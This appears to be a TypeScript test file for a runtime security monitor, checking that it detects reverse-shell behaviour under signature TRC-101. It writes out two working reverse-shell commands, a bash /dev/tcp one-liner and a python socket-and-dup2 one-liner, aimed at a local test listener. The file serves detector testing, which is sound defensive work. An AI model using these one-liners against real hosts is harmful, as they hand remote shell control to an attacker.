import assert from "node:assert/strict";
import { createServer } from "node:net";
import type { Traced } from "../traced_job.ts";
import type { Variant } from "../variant.ts";

/** Sends each peer a command, and keeps nothing. */
function attacker() {
  const server = createServer((socket) => {
    socket.on("error", () => {}); // the job ends as it likes
    socket.end("echo ran >proof; exit\n");
  });
  return new Promise<{ port: number; close: () => void }>((resolve) => {
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      assert.ok(address && typeof address === "object");
      resolve({ port: address.port, close: () => server.close() });
    });
  });
}

let port = 0;
async function prepare() {
  const { port: at, close } = await attacker();
  port = at;
  return close;
}

const happened = ({ stdout }: Traced) => assert.match(stdout, /ran/);
const found = {
  ...{ signature: "TRC-101", severity: "high", behaviour: "reverse_shell" },
  message: /127\.0\.0\.1/,
} as const satisfies Partial<Variant["found"]>;

export const variants: Variant[] = [
  {
    name: "bash connects by itself and becomes the shell",
    prepare,
    command: () => ["bash", "-c", `(bash -i <>/dev/tcp/127.0.0.1/${port} 0>&0 2>&0); cat proof`],
    happened,
    found: { ...found, program: "/bash" },
  },
  {
    name: "python puts a socket on its input and runs a shell",
    prepare,
    command: () => [
      ...["sh", "-c"],
      `python3 -c 'import os, socket
s = socket.create_connection(("127.0.0.1", ${port}))
os.dup2(s.fileno(), 0)
os.system("/bin/sh")'; cat proof`,
    ],
    happened,
    found: { ...found, program: "/python3.11" },
  },
];
